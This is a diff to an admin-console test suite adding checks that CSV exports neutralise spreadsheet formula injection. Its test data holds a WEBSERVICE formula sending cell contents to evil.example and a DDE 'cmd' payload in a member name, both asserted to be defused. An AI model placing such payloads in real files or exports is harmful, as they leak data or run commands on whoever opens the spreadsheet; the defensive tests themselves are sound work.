@@ -239,7 +239,13 @@ describe('admin console', () => {
   });
 
   it('exports the applications the filters match as CSV, with fields escaped and formulas defused', async () => {
-    const id = await submitApplication(server, { fullName: '=HYPERLINK("x")', email: 'csv.case@example.com' });
+    const id = await submitApplication(server, {
+      fullName: '=HYPERLINK("x")',
+      email: 'csv.case@example.com',
+      hasLostMoney: 'yes',
+      // A sign and a digit first passed the old check: exported verbatim, a spreadsheet ran it.
+      lossAmount: '+0+WEBSERVICE("http://evil.example/?"&D2)',
+    });
     await server.api('PATCH', `/api/bot-access/submissions/${id}/status`, {
       token: admin.token,
       body: { status: 'contacted', notes: 'a, "b"\nc' },
@@ -259,6 +265,7 @@ describe('admin console', () => {
     expect(field('full_name')).toBe(`'=HYPERLINK("x")`);
     expect(field('notes')).toBe('a, "b"\nc');
     expect(field('status')).toBe('contacted');
+    expect(field('loss_amount')).toBe(`'+0+WEBSERVICE("http://evil.example/?"&D2)`);
     expect(field('phone_number')).toBe('+2348012345678');
     const audit = await server.context.db
       .selectFrom('audit_log')
@@ -267,6 +274,19 @@ describe('admin console', () => {
       .execute();
     expect(audit).toHaveLength(1);
     expect(audit[0]!.after).toEqual({ filters: { q: 'csv.case' } });
+  });
+
+  it('defuses a member name a spreadsheet would run, and keeps the E.164 phone', async () => {
+    await createMember(server.context.db, { fullName: "-2+3+cmd|' /C calc'!A0", email: 'formula.case@example.com' });
+    const response = await fetch(`${server.url}/api/admin/members/export?query=formula.case`, {
+      headers: { authorization: `Bearer ${admin.token}` },
+    });
+    expect(response.status).toBe(200);
+    const text = (await readStream(response)).text;
+    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
+    const [header, row] = parseCsv(text) as [string[], string[]];
+    expect(row[header.indexOf('full_name')]).toBe(`'-2+3+cmd|' /C calc'!A0`);
+    expect(row[header.indexOf('phone')]).toBe('+2348012345678');
   });
 
   it('streams the members CSV row by row with the current filters', async () => {
